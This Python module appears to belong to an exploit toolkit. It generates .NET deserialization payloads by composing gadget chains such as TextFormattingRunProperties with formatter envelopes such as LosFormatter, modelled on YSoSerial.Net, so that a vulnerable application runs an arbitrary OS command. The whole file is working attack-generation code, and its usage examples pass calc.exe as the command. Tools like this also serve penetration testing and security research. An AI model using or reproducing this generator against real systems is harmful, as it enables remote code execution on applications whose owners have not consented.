"""
Payload Generator

Entry points that compose a gadget chain with an optional formatter
envelope. Much of the payload shape follows the YSoSerial.Net project.

Usage:
    from dotnet_deserialization import generate

    payload = generate("calc.exe")                           # LosFormatter envelope
    raw = generate("calc.exe", formatter=None)               # bare BinaryFormatter stream
    payload = generate("calc.exe", gadget_chain="TextFormattingRunProperties",
                       formatter="LosFormatter")
"""

from typing import Optional

from .constants import DEFAULT_FORMATTER, DEFAULT_GADGET_CHAIN
from .formatters import get_formatter
from .gadget_chains import get_gadget_chain
from .records import SerializedStream
from .utils import logDebug


def build_gadget_chain(cmd: str, gadget_chain: str = DEFAULT_GADGET_CHAIN) -> SerializedStream:
    """
    Build the record graph for a gadget chain without encoding it.

    Raises:
        UnsupportedGadgetChain: Unknown selector
    """
    builder = get_gadget_chain(gadget_chain)
    return builder(cmd)


def generate_gadget_chain(cmd: str, gadget_chain: str = DEFAULT_GADGET_CHAIN) -> bytes:
    """
    Generate a serialized blob that executes cmd through the given gadget chain.
    The chain must be compatible with the target application.

    Args:
        cmd: The OS command to execute
        gadget_chain: Gadget chain selector

    Returns:
        BinaryFormatter stream bytes

    Raises:
        UnsupportedGadgetChain: Unknown selector
    """
    stream = build_gadget_chain(cmd, gadget_chain=gadget_chain)
    serialized = stream.to_bytes(strict=True)
    logDebug(f"Gadget chain {gadget_chain}: {len(stream)} records, {len(serialized)} bytes")
    return serialized


def generate_formatted(serialized: bytes, formatter: str = DEFAULT_FORMATTER) -> bytes:
    """
    Encapsulate a serialized blob with the given formatter.

    Raises:
        UnsupportedFormatter: Unknown selector
    """
    return get_formatter(formatter)(serialized)


def generate(cmd: str, gadget_chain: str = DEFAULT_GADGET_CHAIN,
             formatter: Optional[str] = DEFAULT_FORMATTER) -> bytes:
    """
    Generate a .NET deserialization payload for an OS command.

    Args:
        cmd: The OS command to execute
        gadget_chain: Gadget chain selector. This is application specific.
        formatter: Formatter selector, or None for the bare stream

    Returns:
        Payload bytes

    Raises:
        UnsupportedGadgetChain: Unknown gadget chain selector
        UnsupportedFormatter: Unknown formatter selector
    """
    # Resolve both selectors before doing any work
    builder = get_gadget_chain(gadget_chain)
    wrap = get_formatter(formatter) if formatter is not None else None

    serialized = builder(cmd).to_bytes(strict=True)
    if wrap is None:
        return serialized
    return wrap(serialized)
